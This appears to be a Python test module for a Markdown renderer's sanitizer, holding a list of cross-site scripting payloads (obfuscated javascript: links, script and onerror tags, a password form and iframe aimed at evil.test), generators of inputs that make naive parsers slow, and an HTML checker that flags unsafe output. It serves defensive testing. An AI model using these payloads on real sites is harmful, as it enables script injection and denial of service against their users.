"""Texts that attack whoever shows them, and a judge of what became of them that knows nothing of the renderer."""

from __future__ import annotations

import html.parser
import re
from urllib.parse import urlsplit

ALLOWED = {
    "a",
    "blockquote",
    "br",
    "code",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "li": {"class"},
    "input": {"type", "disabled", "checked", "aria-label"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
}

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.test/p.png)",
    "[![x](data:image/svg+xml,<svg/onload=alert(1)>)](javascript:alert(1))",
    '[x](https://a.test "onmouseover=alert(1)")',
    "[x](https://a.test '\"onmouseover=\"alert(1)')",
    '[a](https://a.test"onclick=alert(1)//)',
    '<https://a.test/"onclick=alert(1)>',
    '```"><script>alert(1)</script>\nx\n```',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>x]]>",
    "<svg><style><img src=x onerror=alert(1)>",
    "| <script>x</script> |\n|--|\n| `<b>` |",
    "# <a name=x id=location>",
    "1. <iframe src=//evil.test>",
    "> <form action=//evil.test><input name=password>",
    "[x](//evil.test/a)",
    "[x](\\\\evil.test\\a)",
    "[x](http://[::1)",
    "[x](mailto:a@b.test?subject=<script>)",
    "[x](svg:a) <irc:b> <tel:1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "\u202e<b>right</b>",
    "[x](https://xn--/%00)",
    "- [x] <input onfocus=alert(1)>",
    '# "onclick="alert(1)',
]


def pathological(size: int) -> dict[str, str]:
    """Texts of about `size` characters on which naive readers need super-linear time, by name."""
    shapes = {
        "open brackets": "[",
        "links": "[a](",
        "emphasis": "*a_",
        "backticks": "`a``",
        "quotes": "> ",
        "images": "![",
        "autolinks": "<a:",
        "nested lists": "- ",
        "entities": "&amp;",
        "html": "<a ",
        "stars": "*",
        "underlines": "a_",
        "references": "[a]: b\n",
        "table": "|a",
        "tables": "|a|b|\n|-|-|\n|c|d|\n\n",
        "headings": "# a\n",
        "strikes": "~~a~",
        "rows": "|" * 100 + "\n",
        "code": "    a\n\n",
        "escapes": "\\",
        "angle": "<",
        "comments": "<!--",
        "ticks": "`",
        "nested emphasis": "**a ",
        "spaces": " a\u00a0",
    }
    found = {name: shape * (size // len(shape)) for name, shape in shapes.items()}
    found["deep quote"] = ">" * size + "a"
    found["deep list"] = "\n".join("  " * depth + "- a" for depth in range(min(1400, size // 700)))
    found["links closed"] = "[" * (size // 2) + "](x)" * (size // 8)
    found["wide table"] = "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + ("|" + "|" * 2000 + "\n") * (size // 2000)
    return found


class Judge(html.parser.HTMLParser):
    """Names whatever a page of text may not hold."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()):
                self.wrong.append(f"<{tag} {name}>")
            if name == "href" and not _good(value or ""):
                self.wrong.append(f"href {value!r}")
            if (name == "id" and not (value or "").startswith("t-")) or (name == "class" and value != "task"):
                self.wrong.append(f"{name} {value!r}")
        if tag == "input" and not {("type", "checkbox"), ("disabled", "")} <= set(attrs):
            self.wrong.append(f"input {attrs}")

    def handle_comment(self, data: str) -> None:  # noqa: ARG002
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:  # noqa: ARG002
        self.wrong.append("declaration")

    unknown_decl = handle_pi = handle_decl


def _good(href: str) -> bool:
    """Judge as a browser reads it: without tabs, line ends and what stands before."""
    bare = re.sub(r"[\t\r\n]", "", href).lstrip("".join(map(chr, range(33))))
    return bare == href and urlsplit(bare).scheme.lower() in ("http", "https", "mailto") and href.isascii()


def judged(text: str) -> list[str]:
    """Give what is wrong with a piece of HTML."""
    judge = Judge()
    try:
        judge.feed(text)
        judge.close()
    except AssertionError:  # a declaration that its reader gives up on
        judge.wrong.append("unreadable")
    return judge.wrong
